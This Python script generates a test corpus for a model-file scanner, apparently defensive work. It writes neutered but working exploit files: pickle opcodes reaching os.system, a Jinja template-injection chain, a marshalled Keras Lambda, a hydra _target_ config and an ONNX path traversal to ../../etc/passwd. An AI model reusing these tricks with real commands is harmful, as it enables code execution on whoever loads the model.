#!/usr/bin/env python3
"""Writes the issue-14 mechanism corpus: one small file per way a scanner can read a model
differently from the program that loads it, plus benign counterparts.

usage: scan_mechanisms.py OUT_DIR [--check]

Standard library only (numpy and joblib are used by --check when importable). Writes
OUT_DIR/expected.json ({file: "dangerous" | "unsafe" | "safe"}, the format of
bench/scan_corpus.py) and OUT_DIR/loaders.json (which loader reaches the code in each
malicious file). Nothing here is ever executed: every payload is `os.system("echo")` or
`posix.system`, and --check reads each pickle with CPython's own unpickler and a recording
`find_class` that never imports (crates/oms-scan/tests/oracle/pickle_reach.py).

The mechanisms are the numbered ones of issue 14; each file name starts with its number.
"""

import base64
import io
import json
import marshal
import os
import struct
import sys
import zipfile

PAYLOAD0 = b"cos\nsystem\n(S'echo'\ntR."  # os.system("echo"), protocol 0 (ASCII text)
PAYLOAD2 = b"\x80\x02cos\nsystem\nq\x00X\x04\x00\x00\x00echoq\x01\x85q\x02Rq\x03."
BENIGN0 = b"(dp0\nVweight\np1\nF0.5\nsS'name'\np2\nVlinear\np3\ns."
# An OrderedDict, as torch.save writes a state dict, with a 3-digit memo key (`p010`).
BENIGN_MEMO = b"ccollections\nOrderedDict\np010\n(tRp011\nVw\nF1.0\ns."

FILES = {}  # name -> (bytes, label, loader that reaches the code, or None for benign)


def add(name, data, label, loader=None):
    FILES[name] = (data, label, loader)


# ---- containers -------------------------------------------------------------------------


def zip_bytes(members):
    """A stored zip as Python's zipfile writes it (torch.save and numpy write stored zips)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            z.writestr(info, data)
    return out.getvalue()


def torch_zip(pickle_bytes, data_name="archive/data.pkl"):
    return zip_bytes([(data_name, pickle_bytes), ("archive/byteorder", b"little"),
                      ("archive/version", b"3\n")])


def npy(descr_literal, shape, body):
    """A .npy v1.0 file whose header dict holds `descr_literal` verbatim."""
    h = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr_literal, shape)
    h += " " * (-(10 + len(h) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode("latin-1") + body


def tar(name, data):
    h = bytearray(512)
    h[: len(name)] = name.encode()
    h[100:107] = b"0000644"
    h[124:135] = b"%011o" % len(data)
    h[156] = ord("0")
    h[257:263] = b"ustar\0"
    h[148:156] = b" " * 8
    h[148:155] = b"%06o\0" % sum(h)
    out = bytes(h) + data
    return out + b"\0" * (-len(out) % 512) + b"\0" * 1024


def keras_zip(config):
    meta = json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"})
    return zip_bytes([("metadata.json", meta.encode()), ("config.json", config.encode()),
                      ("model.weights.h5", b"")])


def sequential(layers_json):
    return ('{"module": "keras", "class_name": "Sequential", "config": {"name": "s", '
            '"layers": [%s]}, "registered_name": null}' % layers_json)


DENSE = ('{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", '
         '"units": 2}, "registered_name": null}')


# ---- protobuf (the field numbers of onnx.proto, saved_model.proto, sentencepiece_model.proto)


def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if not v:
            return bytes(out + bytes([b]))
        out.append(b | 0x80)


def fint(n, v):
    return varint(n << 3) + varint(v)


def fbytes(n, payload):
    return varint((n << 3) | 2) + varint(len(payload)) + payload


def onnx_model(location):
    entry = fbytes(1, b"location") + fbytes(2, location.encode())
    tensor = fint(1, 2) + fint(2, 1) + fbytes(8, b"weight") + fbytes(13, entry) + fint(14, 1)
    node = fbytes(1, b"x") + fbytes(2, b"y") + fbytes(4, b"Relu")
    graph = fbytes(1, node) + fbytes(2, b"main") + fbytes(5, tensor)
    return (fint(1, 8) + fbytes(2, b"pytorch") + fbytes(3, b"2.6") + fbytes(7, graph)
            + fbytes(8, fint(2, 17)))


def saved_model():
    # SavedModel { schema 1, meta_graphs { meta_info_def { tags "serve" },
    #   graph_def { node { name "w", op "WriteFile" } } } }
    node = fbytes(1, b"w") + fbytes(2, b"WriteFile")
    meta_graph = fbytes(1, fbytes(4, b"serve")) + fbytes(2, fbytes(1, node))
    return fint(1, 1) + fbytes(2, meta_graph)


def sentencepiece():
    def piece(p, score, kind):
        m = fbytes(1, p.encode()) + varint((2 << 3) | 5) + struct.pack("<f", score)
        return fbytes(1, m + fint(3, kind))

    return (piece("<unk>", 0.0, 2) + piece("<s>", 0.0, 3) + piece("\u2581the", -3.5, 1)
            + fbytes(2, fbytes(1, b"input.txt") + fint(3, 32000))
            + fbytes(3, fbytes(1, b"nmt_nfkc")))


def gguf(template):
    def s(x):
        return struct.pack("<Q", len(x.encode())) + x.encode()

    return (b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + s("general.architecture")
            + struct.pack("<I", 8) + s("llama") + s("tokenizer.chat_template")
            + struct.pack("<I", 8) + s(template))


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
          "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
          "{{ '<|im_start|>assistant\\n' }}{% endif %}")
# The published llama-cpp-python SSTI (GHSA-56xg-wfcc-g829): the chat template is rendered
# by an unsandboxed jinja2 Environment; the subclass walk reaches subprocess.Popen.
SSTI = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen(\"echo\").read() }}"
        "{% endif %}{% endfor %}")


def build():
    # 1. Emulator divergences from CPython (each protocol 0, so also text).
    memo = (b"Vcollections\np10\n0Vposix\np010\n0VOrderedDict\np11\n0Vsystem\np011\n0"
            b"g10\ng11\n\x93(Vecho\ntR.")
    add("1_memo_010_swap.pkl", memo, "dangerous", "pickle.load: PUT 010 is key 10 -> posix.system")
    add("1_memo_010_swap_torch.pt", torch_zip(memo), "dangerous",
        "torch.load (weights_only=False): archive/data.pkl -> posix.system")
    add("1_pop_on_mark.pkl", b"(0" + PAYLOAD0, "dangerous", "pickle.load: POP drops the mark")
    add("1_build_none_state.pkl", b"NNb0" + PAYLOAD0, "dangerous",
        "pickle.load: BUILD with None state is a no-op")
    add("1_text_arg_over_64k.pkl", b"S'" + b"a" * 70_000 + b"'\n0" + PAYLOAD0, "dangerous",
        "pickle.load: a 70 kB STRING line, then os.system")
    add("1_raw_unicode_escape.pkl", b"V\\\\uzz\n0V\\ud800\n0" + PAYLOAD0, "dangerous",
        "pickle.load: UNICODE lines with an escaped backslash and a lone surrogate")
    # 2. Fails early (for an emulator that errs on POP of a mark) and its 64 KiB read as text.
    text = (b"VModel card: a small linear model trained on public data. See the README for "
            b"the license and the evaluation results.\n0(0" + PAYLOAD0)
    add("2_text_looking.bin", text, "dangerous",
        "torch.load of a legacy file / pickle.load: text line, POP, POP of a mark, os.system")
    # 3. Containers read unlike their loaders.
    add("3_torch_DATA_PKL_upper.pt", torch_zip(b"(0" + PAYLOAD0, "archive/DATA.PKL"), "dangerous",
        "torch.load: PyTorchStreamReader finds the record without case (issue 14)")
    obj_npy = npy("'|O'", "(1,)", PAYLOAD2)
    add("3_npz_with_data_pkl.npz", zip_bytes([("x/data.pkl", b"\x80\x02}q\x00."),
                                              ("x/data/arr.npy", obj_npy)]), "dangerous",
        "np.load(allow_pickle=True)['x/data/arr']: an object array -> os.system")
    add("3_zip_prepended_data.npz", b"PK\x03\x04 not a real header" + zip_bytes([("arr.npy", obj_npy)]),
        "dangerous", "np.load(allow_pickle=True)['arr']: zipfile shifts for prepended data")
    lam = sequential('{"module": "keras.layers", "class_name": "Lambda", "config": '
                     '{"name": "l", "function": {"class_name": "__lambda__", "config": '
                     '{"code": "%s", "defaults": null, "closure": null}}}, "registered_name": null}'
                     % base64.b64encode(marshal.dumps(compile(
                         "lambda x: __import__('os').system('echo')", "<l>", "eval"))).decode())
    add("3_onnx_prefix_keras.keras", b"\x08\x07\x12\x07pytorch\x3a\x00" + keras_zip(lam),
        "dangerous", "keras.saving.load_model(safe_mode=False): zipfile finds the zip from its end")
    header = b'{"__metadata__":{"format":"pt"}}'
    add("3_safetensors_prefix_keras.keras",
        struct.pack("<Q", len(header)) + header + keras_zip(lam), "dangerous",
        "keras.saving.load_model(safe_mode=False): zipfile finds the zip from its end")
    # 4. Headers parsed, not searched.
    add("4_npy_escaped_descr.npy", npy("'\\x7cO'", "(1,)", PAYLOAD2), "dangerous",
        "np.load(allow_pickle=True): ast.literal_eval reads '\\x7cO' as '|O'")
    add("4_npy_structured_object.npy", npy("[('a', '>O')]", "(1,)", PAYLOAD2), "dangerous",
        "np.load(allow_pickle=True): a structured dtype with an object field is pickled")
    jb = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
    jb += b"X\x05\x00\x00\x00dtypecnumpy\ndtype\n(X\x02\x00\x00\x00f8\x89\x88tR"
    jb += b"X\x05\x00\x00\x00shapeK\x01\x85X\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
    jb += b"X\x08\x00\x00\x00subclasscnumpy\nndarray\nX\x0a\x00\x00\x00allow_mmap\x89"
    jb += b"X\x1b\x00\x00\x00numpy_array_alignment_bytes\x88ub"
    pay = b"0" + PAYLOAD0[:-1]
    jb += b"\x02\x00\x00\x00\x00\x00\x00\x00C" + bytes([1 + len(pay), 0]) + pay + b"."
    add("4_joblib_alignment_true.joblib", jb, "dangerous",
        "joblib.load: pads whenever numpy_array_alignment_bytes is not None -> os.system")
    # 5. Keras configs decoded as JSON.
    add("5_keras_escaped_lambda.keras",
        keras_zip(lam.replace('"class_name": "Lambda"', '"class_name": "\\u004cambda"')),
        "dangerous", "keras.saving.load_model(safe_mode=False): json.loads gives Lambda")
    mod = sequential('{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", '
                     '"units": 2, "kernel_initializer": {"module": "\\u006fs", "class_name": '
                     '"function", "config": "system", "registered_name": "system"}}, '
                     '"registered_name": null}')
    add("5_keras_escaped_module_os.keras", keras_zip(mod), "dangerous",
        "keras < 3.9 load_model: imports the config's module 'os' (CVE-2025-1550 shape)")
    add("5_keras_tfsmlayer.keras", keras_zip(sequential(
        '{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", '
        '"filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}, '
        '"registered_name": null}')), "dangerous",
        "keras load_model: TFSMLayer loads a SavedModel from an attacker path (advisory)")
    add("5_keras_torchmodulewrapper.keras", keras_zip(sequential(
        '{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "w", '
        '"module": "gAJjb3MKc3lzdGVtCnEAWAQAAABlY2hvcQGFcQJScQMu"}, "registered_name": null}')),
        "dangerous", "keras load_model (torch backend): TorchModuleWrapper torch.loads its module")
    # 6. Formats that carry code.
    add("6_saved_model.pb", saved_model(), "unsafe",
        "tf.saved_model.load: runs the graph's ops (here WriteFile)")
    add("6_gguf_ssti_template.gguf", gguf(SSTI), "dangerous",
        "llama-cpp-python < 0.2.72: renders tokenizer.chat_template unsandboxed")
    add("6_onnx_external_data_escape.onnx", onnx_model("../../etc/passwd"), "dangerous",
        "onnx.load: reads the external data file ../../etc/passwd")
    add("6_nemo_hydra_target.nemo",
        tar("./model_config.yaml",
            b"model:\n  sample_rate: 16000\n  callback:\n    _target_: os.system\n    command: echo\n"),
        "dangerous", "NeMo restore_from: hydra.utils.instantiate(_target_: os.system)")
    # 7. Benign counterparts.
    add("7_tokenizer.model", sentencepiece(), "safe")
    add("7_plain_p0.pkl", BENIGN0, "safe")
    add("7_memo_010_plain.pkl", BENIGN_MEMO, "safe")
    add("7_torch_plain.pt", torch_zip(BENIGN_MEMO), "safe")
    add("7_plain.npy", npy("'<f4'", "(4,)", struct.pack("<4f", 1, 2, 3, 4)), "safe")
    add("7_plain.npz", zip_bytes([("a.npy", npy("'<f4'", "(2,)", struct.pack("<2f", 1, 2)))]),
        "safe")
    add("7_plain.keras", keras_zip(sequential(DENSE)), "safe")
    add("7_chatml.gguf", gguf(CHATML), "safe")
    add("7_onnx_external_data_local.onnx", onnx_model("weights.bin"), "safe")
    add("7_nemo_plain.nemo", tar("./model_config.yaml", b"model:\n  sample_rate: 16000\n"), "safe")


def plain_joblib():
    """A joblib.dump of a float array when joblib is importable (the benign joblib file)."""
    try:
        import joblib
        import numpy as np
    except ImportError:
        return None
    out = io.BytesIO()
    joblib.dump({"w": np.arange(4, dtype="<f8")}, out)
    return out.getvalue()


def check():
    """CPython's unpickler reaches a non-benign global in each malicious pickle (no import)."""
    here = os.path.dirname(os.path.abspath(__file__))
    sys.path.insert(0, os.path.join(here, "..", "crates", "oms-scan", "tests", "oracle"))
    import pickle_reach  # noqa: E402

    def pickles_in(name, data):
        if data.startswith(b"\x93NUMPY"):
            return [data[10 + struct.unpack("<H", data[8:10])[0]:]]
        if name.endswith((".pt", ".npz")):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                return [z.read(n)[10 + struct.unpack("<H", z.read(n)[8:10])[0]:]
                        if n.endswith(".npy") else z.read(n)
                        for n in z.namelist() if n.lower().endswith((".pkl", ".npy"))]
        if name.endswith((".pkl", ".bin")):
            return [data]
        return []

    benign = {"collections", "copyreg", "torch", "numpy", "joblib", "numpy.core.multiarray"}
    for name, (data, label, _) in sorted(FILES.items()):
        if label == "safe" and not name.endswith((".pkl", ".pt")):
            continue
        for p in pickles_in(name, data):
            r = pickle_reach.reach(p, pickle_reach.RecordingUnpickler)
            py = pickle_reach.reach(p, pickle_reach.RecordingPyUnpickler)
            reached = {"%s.%s" % (m, n) for m, n, _ in r["globals"] + py["globals"]}
            bad = sorted(g for g in reached if g.split(".")[0] not in benign)
            print("%-36s %-9s C:%s py:%s non-benign: %s" % (
                name, label, r["error"] or "ok", py["error"] or "ok", bad or "none"))
    for name in ("4_joblib_alignment_true.joblib", "7_plain.joblib"):
        if name in FILES:
            print("%-36s joblib.load reaches: %s" % (name, joblib_reach(FILES[name][0])))
    for name, (data, _, _) in sorted(FILES.items()):
        if name.endswith((".keras", ".npz", ".pt")):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                print("%-36s zipfile: %s" % (name, z.namelist()))
                if "config.json" in z.namelist():
                    print("%-36s json.loads classes/modules: %s" % (name, keras_names(
                        json.loads(z.read("config.json")))))
                for n in z.namelist():
                    if n.endswith(".npy"):
                        print("%-36s %s: %s" % (name, n, npy_dtype(z.read(n))))
        elif name.endswith(".npy"):
            print("%-36s %s" % (name, npy_dtype(data)))


def keras_names(node):
    """Every class_name and module a Keras config names, as json.loads decodes them."""
    found = []
    if isinstance(node, dict):
        for k in ("class_name", "module"):
            if isinstance(node.get(k), str):
                found.append(node[k])
        node = list(node.values())
    if isinstance(node, list):
        for v in node:
            found.extend(keras_names(v))
    return found


def npy_dtype(data):
    """numpy's own header parser: the dtype np.load reads and whether it unpickles."""
    try:
        import numpy.lib.format as fmt
    except ImportError:
        return "numpy not importable"
    f = io.BytesIO(data)
    fmt.read_magic(f)
    shape, _, dtype = fmt.read_array_header_1_0(f)
    return "numpy header: dtype %s, hasobject %s" % (dtype, dtype.hasobject)


def joblib_reach(data):
    """joblib's own NumpyUnpickler, with a find_class that imports only joblib and numpy."""
    try:
        import joblib.numpy_pickle as jnp
    except ImportError:
        return "joblib not importable"
    seen = []

    class Recording(jnp.NumpyUnpickler):
        def find_class(self, module, name):
            seen.append("%s.%s" % (module, name))
            if module.split(".")[0] in ("joblib", "numpy"):
                return super().find_class(module, name)
            return lambda *a, **k: None

    try:
        Recording("f", io.BytesIO(data), False).load()
    except Exception as e:  # noqa: BLE001 - report, do not raise
        seen.append("error %s" % e)
    return seen


def main():
    out_dir = sys.argv[1]
    build()
    jb = plain_joblib()
    if jb is not None:
        add("7_plain.joblib", jb, "safe")
    os.makedirs(out_dir, exist_ok=True)
    for name, (data, _, _) in FILES.items():
        with open(os.path.join(out_dir, name), "wb") as f:
            f.write(data)
    with open(os.path.join(out_dir, "expected.json"), "w") as f:
        json.dump({n: v[1] for n, v in sorted(FILES.items())}, f, indent=1)
    with open(os.path.join(out_dir, "loaders.json"), "w") as f:
        json.dump({n: v[2] for n, v in sorted(FILES.items()) if v[2]}, f, indent=1)
    if "--check" in sys.argv:
        check()


if __name__ == "__main__":
    main()
